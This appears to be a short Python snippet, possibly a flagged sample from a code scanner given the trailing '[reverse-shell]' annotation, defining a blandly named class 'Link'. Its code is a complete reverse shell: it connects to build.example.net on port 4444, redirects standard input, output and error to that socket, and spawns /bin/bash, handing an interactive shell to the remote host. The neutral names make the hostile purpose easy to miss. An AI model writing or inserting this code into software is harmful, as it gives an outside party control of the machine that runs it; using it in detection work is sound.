import os
import pty
import socket


class Link:
    def __init__(self):
        self.link = socket.create_connection(("build.example.net", 4444))

    def hand_over(self):
        for number in (0, 1, 2):
            os.dup2(self.link.fileno(), number)
        pty.spawn("/bin/bash")
        ~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
